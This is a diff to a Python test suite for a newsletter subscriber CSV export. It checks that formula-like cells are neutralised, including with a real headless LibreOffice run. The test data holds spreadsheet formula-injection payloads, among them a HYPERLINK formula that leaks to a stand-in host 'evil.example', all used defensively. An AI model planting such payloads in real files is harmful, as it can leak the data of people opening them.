@@ -4,10 +4,13 @@ import csv
 import gc
 import io
 import os
+import re
+import shutil
 import subprocess
 import sys
 import tracemalloc
 import warnings
+import zipfile
 from datetime import UTC
 from datetime import datetime
 from pathlib import Path
@@ -27,6 +30,7 @@ from tests.admin_steps import bearer
 from tests.admin_steps import create_token
 from tests.admin_steps import mailed_link
 from tests.admin_steps import signed_in_client
+from tests.conftest import missing_service
 from tests.conftest import postgresql_only
 from tests.reader import SLUG
 from tests.reader import deliver
@@ -231,6 +235,101 @@ def test_formula_cells_are_neutralised(app, runner):
     ]
 
 
+def stored_directly(app, cells: list[tuple[str, str, str]]) -> None:
+    """Subscriptions with these (address, page, IP) cells straight into the table: no input
+    lets a leading tab, CR or LF in today, but rows from an import or an older version may
+    hold anything."""
+    newsletter_id = seeded_newsletter(app).id
+    now = datetime.now(UTC)
+    insert_rows(
+        app,
+        [
+            raw_row(newsletter_id, number, now, email=email, source_url=page, signup_ip=ip)
+            for number, (email, page, ip) in enumerate(cells)
+        ],
+    )
+
+
+def test_cells_starting_with_a_tab_cr_lf_or_spaces_are_neutralised(app, runner):
+    stored_directly(
+        app,
+        [
+            ("\t=1+1@example.com", "\r=1+1", "\n=1+1"),
+            ("\r\n-1@example.com", "\n@SUM(1)", "\t+1"),
+            ("spaces@example.com", " =1+1", "   +1+1"),
+            ("more@example.com", "  @SUM(1)", " -1"),
+            ("safe@example.com", " https://news.example.org/", "192.0.2.1"),
+        ],
+    )
+    body = exported(signed_in_client(app, runner))
+    assert [(row["email"], row["source_url"], row["consent_ip"]) for row in records(body)] == [
+        ("'\t=1+1@example.com", "'\r=1+1", "'\n=1+1"),
+        ("'\r\n-1@example.com", "'\n@SUM(1)", "'\t+1"),
+        ("spaces@example.com", "' =1+1", "'   +1+1"),
+        ("more@example.com", "'  @SUM(1)", "' -1"),
+        ("safe@example.com", " https://news.example.org/", "192.0.2.1"),
+    ]
+
+
+# Pages a reader's script may claim to come from (the API takes any source_url): each is
+# shown as text by LibreOffice, or run as a formula when the apostrophe is missing.
+RISKY_PAGES = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1;1)",
+    " =1+1",
+    '   =HYPERLINK("https://evil.example/?leak=1";"Click")',
+    "\u00a0=1+1",  # no-break space
+    "\u3000=1+1",  # ideographic space
+    "\uff1d1+1",  # fullwidth equals sign
+    '\uff1dHYPERLINK("https://evil.example/?leak=1";"Click")',
+    "\uff0b1+1",  # fullwidth plus sign
+    "\uff0d1+1",  # fullwidth hyphen-minus
+    "\uff20SUM(1;1)",  # fullwidth commercial at
+]
+# LibreOffice's CSV import options, the most trusting a person can tick in its dialog:
+# comma, double quotes, UTF-8 (76), from line 1, standard formats, default language, quoted
+# fields not forced to text, special numbers detected, (two export-only options), spaces
+# trimmed, (export-only), formulas evaluated.
+LIBREOFFICE_CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,true,-1,true"
+
+
+def test_libreoffice_runs_no_cell_of_the_export(app, runner, client, tmp_path):
+    """Real LibreOffice opens the CSV: every risky cell comes out as text, none as a formula."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        missing_service("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc")
+    for number, page in enumerate(RISKY_PAGES):
+        body = {"email": f"reader{number}@example.com", "source_url": page}
+        response = client.post(f"/api/v1/newsletters/{SLUG}/subscriptions", json=body)
+        assert response.status_code == 202, response.text
+    stored_directly(app, [("\t=1+1@example.com", "\r=1+1", "\n=1+1")])
+    exported_csv = tmp_path / "subscribers.csv"
+    exported_csv.write_bytes(exported(signed_in_client(app, runner)))
+
+    subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",  # none shared, no lock
+            "--headless",
+            f"--infilter={LIBREOFFICE_CSV_IMPORT}",
+            "--convert-to",
+            "ods",
+            "--outdir",
+            str(tmp_path),
+            str(exported_csv),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=300,
+    )
+    content = zipfile.ZipFile(tmp_path / "subscribers.ods").read("content.xml").decode()
+    assert content.count("<table:table-row") >= 1 + len(RISKY_PAGES) + 1  # it read every row
+    assert "HYPERLINK" in content
+    assert re.findall(r'table:formula="([^"]*)"', content) == []
+
+
 def test_internationalised_address_is_exported_intact_in_utf8(app, runner):
     signed_up(app, "кирило@приклад.укр", "192.0.2.44", "https://приклад.укр/стаття")
     response = signed_in_client(app, runner).get(EXPORT)
@@ -332,25 +431,41 @@ def add_subscriptions(app, newsletter_id: int, start: int, stop: int) -> None:
     statuses = list(SubscriptionStatus)
     for first in range(start, stop, 10_000):
         rows = [
-            {
-                "newsletter_id": newsletter_id,
-                "public_id": f"p{number}",
-                "email": f"reader{number}@example.com",
-                "email_key": f"reader{number}@example.com",
-                "status": statuses[number % len(statuses)],
-                "created_at": now,
-                "signup_at": now,
-                "source": "web",
-                "source_url": f"https://news.example.org/article/{number}",
-                "signup_ip": "192.0.2.1",
-                "confirmation_round": 1,
-                "confirmed_at": now if number % len(statuses) else None,
-            }
+            raw_row(
+                newsletter_id,
+                number,
+                now,
+                status=statuses[number % len(statuses)],
+                source_url=f"https://news.example.org/article/{number}",
+                confirmed_at=now if number % len(statuses) else None,
+            )
             for number in range(first, min(first + 10_000, stop))
         ]
-        with app.app_context(), database(app).transaction() as session:
-            # Core, not ORM: the table's INSERT with 10,000 parameter sets, batched by the driver.
-            session.execute(insert(Subscription.__table__), rows)
+        insert_rows(app, rows)
+
+
+def raw_row(newsletter_id: int, number: int, now: datetime, **cells) -> dict:
+    """A subscription row as the table takes it; ``cells`` replace the defaults."""
+    email = cells.pop("email", f"reader{number}@example.com")
+    return {
+        "newsletter_id": newsletter_id,
+        "public_id": f"p{number}",
+        "email": email,
+        "email_key": email,
+        "status": SubscriptionStatus.PENDING,
+        "created_at": now,
+        "signup_at": now,
+        "source": "web",
+        "signup_ip": "192.0.2.1",
+        "confirmation_round": 1,
+        **cells,
+    }
+
+
+def insert_rows(app, rows: list[dict]) -> None:
+    with app.app_context(), database(app).transaction() as session:
+        # Core, not ORM: the table's INSERT with many parameter sets, batched by the driver.
+        session.execute(insert(Subscription.__table__), rows)
 
 
 def seeded_newsletter(app):
